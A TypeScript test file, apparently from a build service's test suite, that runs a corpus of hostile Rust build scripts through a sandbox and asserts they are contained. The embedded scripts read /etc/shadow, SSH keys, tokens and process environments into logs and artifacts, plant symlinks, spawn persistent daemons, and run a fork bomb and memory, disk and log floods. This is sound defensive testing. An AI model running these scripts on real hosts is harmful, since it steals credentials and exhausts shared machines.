/**
 * The attack corpus of the build workers (BRIEF §5, §10): hostile Cargo
 * build scripts go through the real pipeline — upload → queue → worker →
 * bubblewrap sandbox → evaluator — and each must be contained:
 *   - the build ends `failed` with a reason naming the limit or the refusal
 *     (or, where the attack is harmless inside the sandbox, it may succeed);
 *   - no secret (a host canary file, a canary in this process's environment,
 *     which is also the in-process worker's, /etc/shadow, the worker, owner
 *     and admin tokens) appears in any stored object, the build log or the
 *     build record;
 *   - the TCP/UDP listeners opened here on 127.0.0.1 and ::1 see nothing;
 *   - no process of the sandbox uids survives the build;
 *   - a normal build right after succeeds.
 *
 * One Kiln and one worker for the whole corpus, with limits lowered so the
 * resource attacks end in seconds (the machine has 2 cores shared with
 * other people's builds).
 */
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import dgram from 'node:dgram';
import { existsSync } from 'node:fs';
import { mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { gunzipSync } from 'node:zlib';
import type { SandboxLimits } from '../../src/sandbox/sandbox.ts';
import { call, startTestKiln, type TestKiln } from '../support/kiln.ts';
import { buildLog, deployDirectory, EXAMPLES, startTestWorkers, waitForBuild, type TestWorkers } from '../support/workers.ts';
import { uleb } from '../support/wasm.ts';

type Json = Record<string, any>; // eslint-disable-line @typescript-eslint/no-explicit-any -- test-side JSON access

/** The default uid pool of the bubblewrap sandbox (src/sandbox/uids.ts) and where its leases live (host.ts). */
const SANDBOX_UID_BASE = 200_000;
const SANDBOX_UID_COUNT = 64;
const SANDBOX_UID_LOCKS = path.join(os.tmpdir(), 'kiln-sandbox', 'uids');

/**
 * Lowered limits: small enough that memory, disk, pids and log attacks end
 * within seconds, large enough for a tiny cargo build on a loaded 2-core box.
 * The disk cap stays well under the memory cap because tmpfs pages count
 * against the memory cgroup: a disk fill must hit ENOSPC before the OOM killer.
 */
const LIMITS: SandboxLimits = {
  wallMs: 90_000,
  memoryBytes: 512 * 1024 ** 2,
  pids: 128,
  diskBytes: 128 * 1024 ** 2,
  logBytes: 4 * 1024 ** 2,
  cpus: 2,
};
/** The infinite-loop attack alone runs with this wall limit (see the test). */
const LOOP_WALL_MS = 8_000;

/** Set by build scripts on every process they start, so survivors can be recognised whatever their uid. */
const MARKER_NAME = 'KILN_ATTACK_MARKER';

interface RustProject {
  buildRs?: string;
  mainRs?: string;
  libRs?: string;
  /** Extra Cargo.toml text after [package]. */
  manifestTail?: string;
  /** Extra keys inside [package]. */
  packageExtra?: string;
}

async function writeRustProject(dir: string, name: string, project: RustProject): Promise<void> {
  await mkdir(path.join(dir, 'src'), { recursive: true });
  const build = project.buildRs === undefined ? '' : 'build = "build.rs"\n';
  await writeFile(
    path.join(dir, 'Cargo.toml'),
    `[package]\nname = "${name}"\nversion = "0.1.0"\nedition = "2021"\n${build}${project.packageExtra ?? ''}\n${project.manifestTail ?? ''}`,
  );
  if (project.buildRs !== undefined) await writeFile(path.join(dir, 'build.rs'), project.buildRs);
  if (project.libRs !== undefined) await writeFile(path.join(dir, 'src', 'lib.rs'), project.libRs);
  if (project.mainRs !== undefined || project.libRs === undefined) await writeFile(path.join(dir, 'src', 'main.rs'), project.mainRs ?? 'fn main() {}\n');
}

/** A Rust string literal. */
const rs = (text: string): string => JSON.stringify(text);

/** Processes of the sandbox uid range whose uid is not leased right now, plus anything carrying `marker`. */
async function survivors(marker: string): Promise<string[]> {
  const leased = new Set((await readdir(SANDBOX_UID_LOCKS).catch(() => [] as string[])).map((name) => Number(/^uid-(\d+)$/.exec(name)?.[1])));
  const found: string[] = [];
  for (const pid of (await readdir('/proc')).filter((name) => /^\d+$/.test(name))) {
    const status = await readFile(`/proc/${pid}/status`, 'utf8').catch(() => '');
    // Zombies run nothing; they only wait to be reaped.
    if (status === '' || /^State:\s+[ZX]/m.test(status)) continue;
    const uid = Number(/^Uid:\s+(\d+)/m.exec(status)?.[1]);
    const environ = await readFile(`/proc/${pid}/environ`).catch(() => Buffer.alloc(0));
    const marked = environ.includes(`${MARKER_NAME}=${marker}`);
    const stray = uid >= SANDBOX_UID_BASE && uid < SANDBOX_UID_BASE + SANDBOX_UID_COUNT && !leased.has(uid);
    if (marked || stray) {
      const cmdline = (await readFile(`/proc/${pid}/cmdline`, 'utf8').catch(() => '')).replace(/\0/g, ' ').trim();
      found.push(`pid ${pid} uid ${uid}${marked ? ' (marked)' : ''}: ${cmdline}`);
    }
  }
  return found;
}

/** A minimal valid Wasm module whose only content is a custom section holding `payload`. */
function wasmWithCustomSection(name: string, payload: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(uleb(Buffer.byteLength(name))), Buffer.from(name), payload]);
  return Buffer.concat([Buffer.from([0x00, 0x61, 0x73, 0x6d, 0x01, 0x00, 0x00, 0x00, 0x00, ...uleb(body.length)]), body]);
}

describe('attack corpus: hostile build scripts through the real pipeline', { timeout: 1_200_000 }, () => {
  let t: TestKiln;
  let workers: TestWorkers;
  let appId: string;
  let projects: string;
  let versions = 0;
  const limits: SandboxLimits = { ...LIMITS };
  const marker = randomBytes(8).toString('hex');
  /** Values that must never leave the host: filled in before(). */
  const secrets = new Map<string, string>();
  const previousCanary = process.env.KILN_CANARY;
  let canaryDir: string;
  const connections = { tcp4: 0, tcp6: 0, udp: 0 };
  let tcp4: net.Server;
  let tcp6: net.Server;
  let udp: dgram.Socket;
  const ports = { tcp4: 0, tcp6: 0, udp: 0, api: 0 };

  before(async () => {
    // The worker runs in this process: its environment is this one.
    const envCanary = `kiln-env-canary-${randomBytes(12).toString('hex')}`;
    process.env.KILN_CANARY = envCanary;
    secrets.set('KILN_CANARY (environment)', envCanary);
    t = await startTestKiln({ config: { buildLimits: limits } });
    secrets.set('worker token', t.workerToken);
    secrets.set('owner token', t.ownerToken);
    secrets.set('admin token', (await readFile(path.join(t.dataDir, 'admin-token'), 'utf8')).trim());
    // A host secret file under the data dir, and a planted "module" that smuggles it (symlink attacks).
    canaryDir = path.join(t.dataDir, 'canary');
    await mkdir(canaryDir, { mode: 0o700 });
    const fileCanary = `kiln-file-canary-${randomBytes(12).toString('hex')}`;
    secrets.set('canary file', fileCanary);
    await writeFile(path.join(canaryDir, 'secret.txt'), `${fileCanary}\n`, { mode: 0o600 });
    await writeFile(path.join(canaryDir, 'attack-symdir.wasm'), wasmWithCustomSection('stolen', Buffer.from(fileCanary)), { mode: 0o600 });
    // /etc/shadow as the host sees it: every entry is something that must not leak.
    const shadow = await readFile('/etc/shadow', 'utf8').catch(() => '');
    shadow
      .split('\n')
      .filter((line) => line.includes(':'))
      .forEach((line, index) => secrets.set(`/etc/shadow line ${index + 1}`, line));

    tcp4 = net.createServer((socket) => {
      connections.tcp4++;
      socket.destroy();
    });
    tcp6 = net.createServer((socket) => {
      connections.tcp6++;
      socket.destroy();
    });
    await new Promise<void>((resolve) => tcp4.listen(0, '127.0.0.1', resolve));
    await new Promise<void>((resolve) => tcp6.listen(0, '::1', resolve));
    udp = dgram.createSocket('udp4');
    udp.on('message', () => connections.udp++);
    await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
    ports.tcp4 = (tcp4.address() as net.AddressInfo).port;
    ports.tcp6 = (tcp6.address() as net.AddressInfo).port;
    ports.udp = udp.address().port;
    ports.api = Number(new URL(t.url).port);

    projects = await mkdtemp(path.join(os.tmpdir(), 'kiln-attacks-'));
    workers = startTestWorkers(t, 1);
    appId = (await call<Json>(t.url, 'POST', '/v1/applications', { token: t.ownerToken, json: { name: 'attacks' } })).body.id;
  });

  after(async () => {
    await workers?.stop();
    await t?.close();
    await rm(projects, { recursive: true, force: true });
    await new Promise<void>((resolve) => tcp4?.close(() => resolve()));
    await new Promise<void>((resolve) => tcp6?.close(() => resolve()));
    udp?.close();
    if (previousCanary === undefined) delete process.env.KILN_CANARY;
    else process.env.KILN_CANARY = previousCanary;
  });

  interface Attacked {
    build: Json;
    log: string;
    /** Marked processes seen while the build ran (proof a daemon really started). */
    seenMarked: number;
  }

  /** Uploads a project, waits for its build (watching /proc meanwhile) and returns what happened. */
  async function runAttack(name: string, project: RustProject): Promise<Attacked> {
    const dir = path.join(projects, name);
    await writeRustProject(dir, name, project);
    const { build } = await deployDirectory(t, appId, dir, { version: `${++versions}.0.0-${name}` });
    let seenMarked = 0;
    while (true) {
      const current = (await call<Json>(t.url, 'GET', `/v1/builds/${build.id}`, { token: t.ownerToken })).body;
      if (['succeeded', 'failed', 'crashed', 'cancelled'].includes(current.state)) {
        return { build: current, log: await buildLog(t, build.id), seenMarked };
      }
      seenMarked += (await survivors(marker)).filter((line) => line.includes('(marked)')).length;
      await new Promise((resolve) => setTimeout(resolve, 200));
    }
  }

  /** The containment checks every attack must pass. */
  async function assertContained(name: string, attacked: Attacked): Promise<void> {
    const where = `${name}: ${attacked.build.state} (${attacked.build.reason ?? 'no reason'})`;
    // The outcome of each attack is part of what the corpus reports.
    console.log(`attack ${where}`);
    if (process.env.KILN_ATTACKS_VERBOSE) console.log(attacked.log.slice(-2500));
    assert.notEqual(attacked.build.state, 'crashed', `${where}\n${attacked.log.slice(-3000)}`);
    // Nothing the sandbox could read stands for a successful read of a host secret.
    assert.doesNotMatch(attacked.log, /READ-OK|LIST-OK/, where);
    const haystacks: Array<[string, Buffer]> = [
      ['build log', Buffer.from(attacked.log)],
      ['build record', Buffer.from(JSON.stringify(attacked.build))],
    ];
    for await (const info of t.kiln.services.objects.list('')) {
      const { body } = await t.kiln.services.objects.getBuffer(info.key);
      haystacks.push([info.key, body]);
      // Uploads and any compressed log: look inside too.
      if (body[0] === 0x1f && body[1] === 0x8b) haystacks.push([`${info.key} (gunzipped)`, gunzipSync(body)]);
    }
    for (const [label, secret] of secrets) {
      for (const [source, content] of haystacks) assert.ok(!content.includes(secret), `${where}: ${label} found in ${source}`);
    }
    assert.deepEqual(connections, { tcp4: 0, tcp6: 0, udp: 0 }, `${where}: a listener on the host loopback was reached`);
    assert.deepEqual(await survivors(marker), [], `${where}: processes survived the build`);
    // Other builds are unaffected: the C example builds right after.
    const { build } = await deployDirectory(t, appId, path.join(EXAMPLES, 'c-function'), { version: `${++versions}.0.0-normal` });
    const normal = await waitForBuild(t, build.id);
    assert.equal(normal.state, 'succeeded', `the normal build after ${name}: ${normal.reason}\n${await buildLog(t, build.id)}`);
  }

  function assertFailed(attacked: Attacked, reason: RegExp): void {
    assert.equal(attacked.build.state, 'failed', `${attacked.build.reason}\n${attacked.log.slice(-3000)}`);
    assert.match(attacked.build.reason, reason, attacked.log.slice(-3000));
  }

  it('reads /etc/shadow, /root, the checkout, the data dir and the environment into the artifact and the log', async () => {
    const files = [
      '/etc/shadow',
      '/etc/gshadow',
      '/root/.bash_history',
      '/root/.ssh/id_rsa',
      '/work/main/package.json',
      '/work/main/.kiln/local-token',
      '/work/main/.kiln/admin-token',
      '/work/main/.kiln/worker-token',
      path.join(t.dataDir, 'local-token'),
      path.join(t.dataDir, 'admin-token'),
      path.join(t.dataDir, 'worker-token'),
      path.join(canaryDir, 'secret.txt'),
      '/proc/1/root/etc/shadow',
    ];
    const dirs = ['/root', '/work', '/work/main', t.dataDir, canaryDir, workers.workRoot];
    const buildRs = `
use std::{env, fs, path::Path};

const FILES: &[&str] = &[${files.map(rs).join(', ')}];
const DIRS: &[&str] = &[${dirs.map(rs).join(', ')}];

fn main() {
    let mut stolen = String::new();
    for path in FILES {
        match fs::read(path) {
            Ok(bytes) => {
                println!("cargo:warning=READ-OK {path}");
                stolen.push_str(&String::from_utf8_lossy(&bytes));
            }
            Err(e) => stolen.push_str(&format!("{path}: {e}\\n")),
        }
    }
    for dir in DIRS {
        match fs::read_dir(dir) {
            Ok(entries) => {
                println!("cargo:warning=LIST-OK {dir}");
                for entry in entries.flatten() {
                    stolen.push_str(&format!("{dir}/{}\\n", entry.file_name().to_string_lossy()));
                }
            }
            Err(e) => stolen.push_str(&format!("{dir}: {e}\\n")),
        }
    }
    for (key, value) in env::vars() {
        stolen.push_str(&format!("env {key}={value}\\n"));
    }
    // Every process this sandbox can see: the worker's environment would be here if its pid were.
    for entry in fs::read_dir("/proc").map(|d| d.flatten().collect::<Vec<_>>()).unwrap_or_default() {
        let pid = entry.file_name().to_string_lossy().to_string();
        if pid.chars().all(|c| c.is_ascii_digit()) {
            if let Ok(bytes) = fs::read(format!("/proc/{pid}/environ")) {
                stolen.push_str(&format!("environ of {pid}: {}\\n", String::from_utf8_lossy(&bytes).replace('\\0', " ")));
            }
        }
    }
    for line in stolen.lines() {
        println!("cargo:warning=STOLEN {line}");
    }
    let out = env::var("OUT_DIR").unwrap();
    fs::write(Path::new(&out).join("stolen.txt"), &stolen).unwrap();
    println!("cargo:rustc-env=KILN_STOLEN={}", stolen.replace('\\n', " | "));
    println!("cargo:warning=ATTACK-RAN secrets");
}
`;
    const mainRs = `
use std::io::Write;
static STOLEN: &[u8] = include_bytes!(concat!(env!("OUT_DIR"), "/stolen.txt"));
const STOLEN_ENV: &str = env!("KILN_STOLEN");
fn main() {
    let mut out = std::io::stdout();
    out.write_all(STOLEN).unwrap();
    out.write_all(STOLEN_ENV.as_bytes()).unwrap();
}
`;
    const attacked = await runAttack('attack-secrets', { buildRs, mainRs });
    // Harmless inside the sandbox: every read fails, so the build may succeed — with nothing secret in it.
    assert.equal(attacked.build.state, 'succeeded', `${attacked.build.reason}\n${attacked.log.slice(-3000)}`);
    assert.match(attacked.log, /ATTACK-RAN secrets/);
    assert.match(attacked.log, /STOLEN \/etc\/shadow: No such file or directory/);
    const artifact = await call(t.url, 'GET', `/v1/versions/${attacked.build.versionId}/artifact`, { token: t.ownerToken });
    assert.equal(artifact.status, 200);
    // Positive control: the exfiltration channels work; only the secrets are missing.
    assert.ok(artifact.raw.includes('/etc/shadow: No such file or directory'), 'the artifact carries what the build script read');
    await assertContained('secrets', attacked);
  });

  it('connects to listeners on 127.0.0.1 and ::1 (and the API) from the build script', async () => {
    const buildRs = `
use std::net::{SocketAddr, TcpStream, UdpSocket};
use std::time::Duration;

fn main() {
    let mut results = Vec::new();
    for addr in ["127.0.0.1:${ports.tcp4}", "[::1]:${ports.tcp6}", "127.0.0.1:${ports.api}"] {
        let target: SocketAddr = addr.parse().unwrap();
        match TcpStream::connect_timeout(&target, Duration::from_secs(3)) {
            Ok(_) => results.push(format!("tcp {addr}: CONNECTED")),
            Err(e) => results.push(format!("tcp {addr}: {e}")),
        }
    }
    match UdpSocket::bind("127.0.0.1:0").and_then(|socket| socket.send_to(b"kiln", "127.0.0.1:${ports.udp}")) {
        Ok(_) => results.push("udp: SENT".to_string()),
        Err(e) => results.push(format!("udp: {e}")),
    }
    panic!("NETWORK-ATTACK {}", results.join("; "));
}
`;
    const attacked = await runAttack('attack-network', { buildRs });
    assertFailed(attacked, /failed to run custom build command/);
    assert.match(attacked.log, /NETWORK-ATTACK/);
    // Refused by the sandbox (seccomp refuses AF_INET/AF_INET6 sockets: EAFNOSUPPORT), not merely unanswered.
    const refused = '(Address family not supported by protocol|Operation not permitted|Network is unreachable)';
    assert.match(attacked.log, new RegExp(`tcp 127\\.0\\.0\\.1:${ports.tcp4}: ${refused}`));
    assert.match(attacked.log, new RegExp(`tcp \\[::1\\]:${ports.tcp6}: ${refused}`));
    assert.match(attacked.log, new RegExp(`tcp 127\\.0\\.0\\.1:${ports.api}: ${refused}`));
    assert.match(attacked.log, new RegExp(`udp: ${refused}`));
    await assertContained('network', attacked);
  });

  it('leaves the module as a symlink to /etc/shadow', async () => {
    // A filter without a cdylib: cargo writes no module, so the planted link is all that is there to collect.
    const buildRs = `
use std::{env, path::PathBuf};
fn main() {
    let out = PathBuf::from(env::var("OUT_DIR").unwrap());
    let release = out.ancestors().nth(3).unwrap().to_path_buf();
    for name in ["attack_symlink.wasm", "attack-symlink.wasm"] {
        std::os::unix::fs::symlink("/etc/shadow", release.join(name)).unwrap();
    }
    println!("cargo:warning=ATTACK-RAN symlink in {}", release.display());
}
`;
    const attacked = await runAttack('attack-symlink', {
      buildRs,
      libRs: 'pub fn nothing() {}\n',
      packageExtra: '\n[package.metadata.kiln]\nkind = "proxy-wasm"\n',
      manifestTail: '[lib]\ncrate-type = ["rlib"]\n',
    });
    assert.match(attacked.log, /ATTACK-RAN symlink/);
    // The link is never followed; the reason names what was refused or missing.
    assertFailed(attacked, /symlink|no single module/);
    await assertContained('symlink to /etc/shadow', attacked);
  });

  it('turns the release directory into a symlink to a host directory holding a valid module', async () => {
    // The build script moves cargo's release dir into the sandbox's /tmp at
    // the very path where, on the host, a directory holds a planted module
    // with a secret. Inside, cargo carries on through the link; on the host
    // the same link would lead the collector to the host's file.
    assert.ok(canaryDir.startsWith('/tmp/'), 'the sandbox can only recreate host paths under /tmp');
    const buildRs = `
use std::{env, path::PathBuf, process::Command};
fn main() {
    let out = PathBuf::from(env::var("OUT_DIR").unwrap());
    let release = out.ancestors().nth(3).unwrap().display().to_string();
    let host = ${rs(canaryDir)};
    let script = format!("set -e; mkdir -p '{host}'; cp -a '{release}/.' '{host}/'; rm -rf '{release}'; ln -s '{host}' '{release}'");
    let status = Command::new("/bin/sh").arg("-c").arg(&script).status().unwrap();
    assert!(status.success(), "could not move {release}");
    println!("cargo:warning=ATTACK-RAN symdir {release} -> {host}");
}
`;
    const attacked = await runAttack('attack-symdir', { buildRs });
    assert.match(attacked.log, /ATTACK-RAN symdir/);
    assertFailed(attacked, /symlink; refusing/);
    await assertContained('release dir symlink', attacked);
  });

  it('names a module path outside the release dir in [package.metadata.kiln] bin', async () => {
    // No build script needed: cargo ignores package.metadata, Kiln reads it to find the module.
    const attacked = await runAttack('attack-traverse', { packageExtra: '\n[package.metadata.kiln]\nbin = "../release/attack-traverse"\n' });
    // The name is not a plain target name, so Kiln ignores it and collects the
    // package's own module: never a path outside the build, never a platform fault.
    assert.equal(attacked.build.state, 'succeeded', attacked.log.slice(-2000));
    assert.match(attacked.log, /module target\/wasm32-wasi(p1)?\/release\/attack-traverse\.wasm/);
    assert.equal(attacked.build.attempts, 1, 'a user mistake is not retried as a platform fault');
    await assertContained('module path traversal', attacked);
  });

  it('leaves setsid/nohup daemons behind', async () => {
    const buildRs = `
use std::process::{Command, Stdio};
use std::time::Duration;
fn main() {
    let spawn = |program: &str, args: &[&str]| {
        Command::new(program)
            .args(args)
            .env(${rs(MARKER_NAME)}, ${rs(marker)})
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .map(|child| child.id())
    };
    let daemons = [
        spawn("/usr/bin/setsid", &["-f", "/bin/sh", "-c", "trap '' HUP TERM INT; while :; do sleep 1; done"]),
        spawn("/usr/bin/nohup", &["/bin/sh", "-c", "trap '' HUP TERM INT; while :; do sleep 1; done"]),
        // Double fork: the daemon's parent exits at once, so it is re-parented inside the sandbox.
        spawn("/bin/sh", &["-c", "(setsid sh -c 'trap \\"\\" HUP TERM; exec sleep 3600' >/dev/null 2>&1 &) ; exit 0"]),
    ];
    println!("cargo:warning=ATTACK-RAN daemons {:?}", daemons);
    // Long enough for the test to see them running.
    std::thread::sleep(Duration::from_secs(3));
}
`;
    const attacked = await runAttack('attack-daemon', { buildRs });
    assert.match(attacked.log, /ATTACK-RAN daemons/);
    assert.ok(attacked.seenMarked > 0, 'the daemons were seen running during the build');
    // Harmless once the sandbox is torn down: the build itself may succeed.
    assert.ok(['succeeded', 'failed'].includes(attacked.build.state), attacked.build.reason);
    await assertContained('daemons', attacked);
  });

  it('fork-bombs', async () => {
    const buildRs = `
use std::process::{Command, Stdio};
fn main() {
    // The classic exponential bomb in the background...
    let _ = Command::new("/bin/sh")
        .arg("-c")
        .arg("b() { b | b & }; b")
        .env(${rs(MARKER_NAME)}, ${rs(marker)})
        .stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null())
        .spawn();
    // ...and a linear one here that gives up (failing the build) once forks are refused.
    let mut children = Vec::new();
    loop {
        match Command::new("/bin/sleep").arg("600")
            .env(${rs(MARKER_NAME)}, ${rs(marker)})
            .stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null())
            .spawn()
        {
            Ok(child) => children.push(child),
            Err(e) => panic!("FORK-BOMB refused after {} children: {e}", children.len()),
        }
    }
}
`;
    const attacked = await runAttack('attack-forkbomb', { buildRs });
    assertFailed(attacked, new RegExp(`process limit of ${LIMITS.pids}`));
    await assertContained('fork bomb', attacked);
  });

  // A daemon that inherits the build script's stdout keeps cargo waiting for
  // EOF forever: the run itself can only end because a limit watcher kills it.
  it('fork-bombs from a daemon that keeps cargo waiting on its pipes', async () => {
    const buildRs = `
use std::process::{Command, Stdio};
fn main() {
    println!("cargo:warning=ATTACK-RAN fork-bomb daemon");
    // stdout and stderr inherited: cargo reads them until every holder is gone.
    let _ = Command::new("/bin/sh")
        .arg("-c")
        .arg("b() { b | b & }; b")
        .env(${rs(MARKER_NAME)}, ${rs(marker)})
        .stdin(Stdio::null())
        .spawn();
}
`;
    const attacked = await runAttack('attack-forkbomb-daemon', { buildRs });
    assertFailed(attacked, new RegExp(`process limit of ${LIMITS.pids}`));
    // Killed 2 s after the refusals while the daemon still held cargo's pipes, or the bomb died out first:
    // either way the pids limit ended the build, not the wall clock.
    assert.doesNotMatch(attacked.log, /wall-clock limit/, 'the pids limit ended the run, not the wall clock');
    await assertContained('fork bomb daemon', attacked);
  });

  it('eats memory beside a daemon that keeps cargo waiting on its pipes', async () => {
    const buildRs = `
use std::process::{Command, Stdio};
fn main() {
    println!("cargo:warning=ATTACK-RAN memory daemon");
    // tail keeps the one endless line of /dev/zero in memory; sleep outlives its OOM kill holding the pipes.
    let _ = Command::new("/bin/sh")
        .arg("-c")
        .arg("sleep 3600 & exec tail /dev/zero")
        .env(${rs(MARKER_NAME)}, ${rs(marker)})
        .stdin(Stdio::null())
        .spawn();
}
`;
    const attacked = await runAttack('attack-memory-daemon', { buildRs });
    assertFailed(attacked, /memory limit of 512 MiB/);
    assert.match(attacked.log, /did not end by itself .* it was killed/, 'the memory limit ended the run, not the wall clock');
    await assertContained('memory daemon', attacked);
  });

  it('allocates 4 GiB', async () => {
    const buildRs = `
fn main() {
    println!("cargo:warning=ATTACK-RAN memory");
    // vec! of a non-zero byte writes every page: the memory is really used.
    let hog = vec![1u8; 4 << 30];
    println!("cargo:warning=allocated {}", hog.iter().step_by(4096).map(|b| *b as u64).sum::<u64>());
}
`;
    const attacked = await runAttack('attack-memory', { buildRs });
    assertFailed(attacked, /memory limit of 512 MiB/);
    await assertContained('memory', attacked);
  });

  it('writes 5 GB', async () => {
    const buildRs = `
use std::{env, fs::File, io::Write, path::Path};
fn main() {
    let out = env::var("OUT_DIR").unwrap();
    let mut file = File::create(Path::new(&out).join("fill")).unwrap();
    let chunk = vec![0x5au8; 1 << 20];
    for written in 0..5000 {
        if let Err(e) = file.write_all(&chunk) {
            panic!("DISK-ATTACK stopped after {written} MiB: {e}");
        }
    }
}
`;
    const attacked = await runAttack('attack-disk', { buildRs });
    assertFailed(attacked, /disk limit of 128 MiB/);
    assert.match(attacked.log, /DISK-ATTACK stopped after \d+ MiB/);
    await assertContained('disk', attacked);
  });

  it('prints 100 MB of log', async () => {
    // Cargo keeps a build script's output to itself; writing to cargo's own
    // stderr (inherited by the sandbox's output pipe) floods the real log.
    const buildRs = `
use std::io::Write;
fn main() {
    let line = [b'x'; 1023].iter().copied().chain(std::iter::once(b'\\n')).collect::<Vec<u8>>();
    let parent = std::os::unix::process::parent_id();
    let mut sink: Box<dyn Write> = match std::fs::OpenOptions::new().write(true).open(format!("/proc/{parent}/fd/2")) {
        Ok(file) => Box::new(file),
        Err(_) => Box::new(std::io::stderr()),
    };
    for _ in 0..(100 * 1024) {
        sink.write_all(&line).unwrap();
    }
    panic!("LOG-ATTACK done");
}
`;
    const attacked = await runAttack('attack-log', { buildRs });
    assertFailed(attacked, /log limit of 4 MiB/);
    // The stored log stays near the cap, whatever the build printed.
    assert.ok(attacked.log.length < LIMITS.logBytes + 256 * 1024, `log of ${attacked.log.length} bytes`);
    await assertContained('log flood', attacked);
  });

  it('loops forever', async () => {
    // The limits object is the API's own configuration (the service keeps the
    // reference and hands it to each claim): lowering the wall limit for this
    // one build keeps the corpus short without a second Kiln.
    limits.wallMs = LOOP_WALL_MS;
    try {
      const buildRs = `
fn main() {
    println!("cargo:warning=ATTACK-RAN loop");
    // Sleeps rather than spins: the wall clock is what is limited, and other people share these 2 cores.
    loop {
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
}
`;
      const attacked = await runAttack('attack-loop', { buildRs });
      assertFailed(attacked, /time limit of 8 s exceeded/);
      limits.wallMs = LIMITS.wallMs;
      await assertContained('infinite loop', attacked);
    } finally {
      limits.wallMs = LIMITS.wallMs;
    }
  });

  it('leaves no trace of the corpus on the host', async () => {
    // The planted-module attack recreates the canary path inside the sandbox only.
    assert.ok(existsSync(path.join(canaryDir, 'secret.txt')));
    assert.deepEqual((await readdir(canaryDir)).sort(), ['attack-symdir.wasm', 'secret.txt']);
  });
});
